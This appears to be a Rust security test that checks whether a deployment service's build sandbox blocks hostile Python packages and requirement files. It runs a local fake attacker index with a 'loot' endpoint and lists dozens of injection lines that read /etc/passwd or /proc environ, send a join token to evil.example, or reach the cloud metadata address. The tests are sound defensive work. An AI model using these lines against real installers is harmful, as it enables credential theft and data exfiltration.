//! Environments: what a requirement may run, read or write while a worker builds one, before any handler, and
//! requirement files with more than names.

use std::os::unix::fs::PermissionsExt as _;
use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use axum::Router;
use axum::extract::{Path as Named, State};
use axum::http::StatusCode;
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use serde::Deserialize;
use serde_json::json;

use crate::attacks;
use crate::report::{Outcome, Promise, Report};
use crate::stage::{self, Stage, Who};

const SURFACE: &str = "builds";

/// A distribution written by `builds/make.py`.
#[derive(Debug, Clone, Deserialize)]
struct Distribution {
    name: String,
    file: String,
    lock: String,
}

/// The attacker's package index, and the reports that it received.
#[derive(Clone, Default)]
struct Index {
    folder: PathBuf,
    told: Arc<Mutex<Vec<String>>>,
}

struct Target {
    stage: Stage,
    outside: PathBuf,
    index: Index,
    url: String,
    distributions: Vec<Distribution>,
    package: (String, Vec<u8>),
}

pub(crate) async fn run(report: &mut Report) {
    for (name, level, who, is_quick) in [
        ("L1 root", "L1", Who::Root, false),
        ("L2 root", "L2", Who::Root, true),
        ("L1 user", "L1", Who::User, false),
        ("L2 user", "L2", Who::User, false),
    ] {
        if !is_quick && !stage::is_full() {
            continue;
        }
        if let Some(why) = who.lacks() {
            report.skip(SURFACE, name, &why);
            continue;
        }
        if level == "L2" && !stage::has_bwrap() {
            report.skip(SURFACE, name, &format!("there is no bubblewrap at {}", stage::bwrap()));
            continue;
        }
        let target = Target::start(level, who).await;
        attacks!(report, SURFACE, name, Promise::Holds, &target, [run_nothing_as_the_worker]);
        if is_quick {
            attacks!(report, SURFACE, name, Promise::Holds, &target, [say_more_than_names]);
        }
    }
}

async fn project(State(index): State<Index>, Named(name): Named<String>) -> Response {
    let prefix = format!("{}-", name.replace('-', "_"));
    let files =
        std::fs::read_dir(&index.folder).unwrap().flatten().map(|file| file.file_name().to_string_lossy().into_owned());
    let links: String = files
        .filter(|file| file.starts_with(&prefix))
        .map(|file| format!("<a href=\"/files/{file}\">{file}</a>\n"))
        .collect();
    if links.is_empty() { StatusCode::NOT_FOUND.into_response() } else { Html(links).into_response() }
}

async fn file(State(index): State<Index>, Named(name): Named<String>) -> Response {
    std::fs::read(index.folder.join(name)).map_or(StatusCode::NOT_FOUND.into_response(), IntoResponse::into_response)
}

async fn told(State(index): State<Index>, Named(what): Named<String>) -> StatusCode {
    index.told.lock().expect("no panic holds it").push(what);
    StatusCode::OK
}

impl Target {
    async fn start(level: &str, who: Who) -> Self {
        let folder = tempfile::tempdir().unwrap().keep();
        let index = Index { folder: folder.clone(), told: Arc::default() };
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        let router = Router::new()
            .route("/simple/{name}/", get(project))
            .route("/files/{name}", get(file))
            .route("/loot/{*what}", get(told))
            .with_state(index.clone());
        tokio::spawn(async move { axum::serve(listener, router).await });
        let simple = format!("{url}/simple");
        let env = [
            ("STOKE_SANDBOX", level),
            ("STOKE_PACKAGE_INDEXES", simple.as_str()),
            ("STOKE_ALLOW_SOURCE_BUILDS", "true"),
        ];
        let stage = Stage::start(who, &["--slots", "2"], &env);
        let outside = stage.dir.path().join("outside");
        let made = stage.dir.path().join("made");
        for folder in [&outside, &made] {
            std::fs::create_dir(folder).unwrap();
        }
        // The modes allow every user to write there: modes are not what keeps a build away.
        std::fs::set_permissions(&outside, std::fs::Permissions::from_mode(0o777)).unwrap();
        let arguments = [folder.to_str().unwrap(), outside.to_str().unwrap(), &format!("{url}/loot/")];
        let distributions = serde_json::from_value(stage::python("builds/make.py", &arguments)).unwrap();
        let packages = stage::python("packages/make.py", &[made.to_str().unwrap(), outside.to_str().unwrap(), "1"]);
        let bytes = std::fs::read(packages[0]["path"].as_str().unwrap()).unwrap();
        let package = (packages[0]["sha256"].as_str().unwrap().to_owned(), bytes);
        Self { stage, outside, index, url, distributions, package }
    }

    /// Deploys the plain package with these requirements. Returns the status.
    async fn deployed(&self, name: &str, lock: &str) -> u16 {
        let (sha256, bytes) = &self.package;
        stage::put_package(&self.stage.api, sha256, bytes.clone()).await;
        let members = json!({"package_sha256": sha256, "package_size_bytes": bytes.len(), "entry": "main.py:packed", "requirements_lock": lock, "max_attempts": 1, "timeout_s": 60});
        let version = stage::version(name, members);
        let answer = self.stage.api.request("POST", "/v1/endpoints").json(&version).send().await.unwrap();
        answer.status().as_u16()
    }
}

/// Every part of a distribution whose code runs by itself.
async fn run_nothing_as_the_worker(target: &Target) -> Outcome {
    let mut outcome = Outcome::default();
    for (number, distribution) in target.distributions.iter().enumerate() {
        if !stage::is_full() && number % 3 != 1 && number != 0 {
            continue;
        }
        let endpoint = format!("builds-{number}");
        let lock = format!("--index-url {}/simple\n{}", target.url, distribution.lock);
        let status = target.deployed(&endpoint, &lock).await;
        assert!(status < 300, "{distribution:?}: {status}");
        let job = target.stage.api.submit(&endpoint, json!({})).await;
        let ended = target.stage.api.ended(&job).await;
        if distribution.name == "plain" {
            assert_eq!(ended["state"], "succeeded", "{ended}");
        }
        let told = std::mem::take(&mut *target.index.told.lock().expect("no panic holds it"));
        outcome.open_if(!told.is_empty(), || format!("{} found {told:?}", distribution.name));
        let mut escaped = Vec::new();
        for entry in std::fs::read_dir(&target.outside).unwrap().flatten() {
            escaped.push(entry.file_name());
            std::fs::remove_file(entry.path()).unwrap();
        }
        outcome.open_if(!escaped.is_empty(), || {
            format!("{} ({}) wrote {escaped:?}", distribution.name, distribution.file)
        });
    }
    outcome
}

/// Lines that make an installer read files, send requests, or use its own environment as text.
async fn say_more_than_names(target: &Target) -> Outcome {
    let server = target.url.trim_start_matches("http://");
    let mut lines: Vec<String> = [
        "-r /proc/self/environ",
        "-r/etc/passwd",
        "--requirement /etc/passwd",
        "--requirement=/etc/passwd",
        "-c /etc/passwd",
        "--constraint=/proc/1/environ",
        "-e .",
        "--editable /",
        "--find-links /etc",
        "-f /etc",
        "--no-index",
        "--pre",
        "--trusted-host x",
        "--no-binary :all:",
        "--only-binary :none:",
        "--use-feature x",
        "--config-settings a=b",
        "--global-option=x",
        "--prefer-binary",
        "--require-hashes",
        "/etc/passwd",
        "./x.whl",
        "../x",
        "~/x",
        "file:///etc/passwd",
        "pip @ file:///etc/passwd",
        "pip@file:/etc/passwd",
        "git+https://example.com/x",
        "git+ssh://git@example.com/x",
        "hg+http://x",
        "svn+http://x",
        "bzr+http://x",
        "x @ ${STOKE_JOIN_TOKEN}",
        "${PATH}",
        "x==${HOME}",
        "x==1 ; ${HOME}",
        "--index-url http://evil.example/${STOKE_JOIN_TOKEN}/",
        "--index-url https://user:password@pypi.org/simple",
        "--extra-index-url http://169.254.169.254/",
        "-i http://127.0.0.1/",
        "-ihttp://127.0.0.1/",
        "--index-url file:///etc",
        "x==1 --hash=md5:0",
        "x==1 --hash=sha256:zz",
        "x==1 --config-settings=a",
        "x==1 \\\n-r /etc/passwd",
        "x==1 \\\r\n--constraint /etc/passwd",
        "# \\\n-r /etc/passwd",
        "x==1 # y\r-r /etc/passwd",
        "\u{feff}-r /etc/passwd",
        "-\u{200b}r /etc/passwd",
        "x==1\u{2028}-r /etc/passwd",
        "x==1\u{85}-r /etc/passwd",
        "x==1\u{b}-r /etc/passwd",
        "x==1\u{c}-r /etc/passwd",
        "x==1\0-r /etc/passwd",
        "\t-r /etc/passwd",
        " -r /etc/passwd",
        "x>=1",
        "x",
        "x==1.*",
        "x~=1",
        "x===1 --hash",
        "x[../../y]==1",
        "x==../../y",
        "\u{ff0d}r /etc/passwd",
        "x=\u{200b}=1",
        "x==1; python_version == '3' or __import__('os')",
        "x @ http://169.254.169.254/latest/x.whl",
        "x @ ftp://x/x.whl",
        "x @ data:,x",
        "x @ https://example.com/x.whl",
        "x @ https://example.com/x.whl#sha256=0&subdirectory=../..",
        "[tool.uv]",
        "import os",
    ]
    .map(str::to_owned)
    .into();
    lines.push(format!("-r http://{server}/loot/requirements"));
    lines.push(format!("x @ http://{server}/loot/x-1.0-py3-none-any.whl"));
    let hash = format!("--hash=sha256:{}", "0".repeat(64));
    lines.push(format!("x @ http://{server}/loot/x-1.0-py3-none-any.whl {hash}"));
    lines.push(format!("x @ http://{server}/simple/../loot/x-1.0-py3-none-any.whl {hash}"));
    lines.push(format!("x @ http://{server}/simple/%2e%2E/loot/x-1.0-py3-none-any.whl {hash}"));
    lines.push(format!("x @ http://{server}:80/simple/x-1.0-py3-none-any.whl {hash}"));
    lines.push(format!("x @ http://169.254.169.254/latest/x-1.0-py3-none-any.whl {hash}"));
    lines.push(format!("--index-url http://{server}.evil.example/simple"));
    lines.push(format!("--index-url http://{server}/simple/../../loot/up"));
    lines.push(format!("--index-url http://{server}@evil.example/simple"));
    lines.push(format!("--extra-index-url HTTP://{server}/SIMPLE%2f..%2floot"));
    let mut outcome = Outcome::default();
    for (number, line) in lines.iter().enumerate() {
        for (how, lock) in
            [line.clone(), format!("{line}\n"), format!("plain==1.0\n{line}\nmore==2.0\n")].into_iter().enumerate()
        {
            let status = target.deployed(&format!("lock-{number}-{how}"), &lock).await;
            outcome.open_if(!(400..500).contains(&status), || format!("{line:?}: {status}"));
        }
    }
    let told = std::mem::take(&mut *target.index.told.lock().expect("no panic holds it"));
    outcome.open_if(!told.is_empty(), || format!("a server was asked for {told:?}"));
    outcome
}
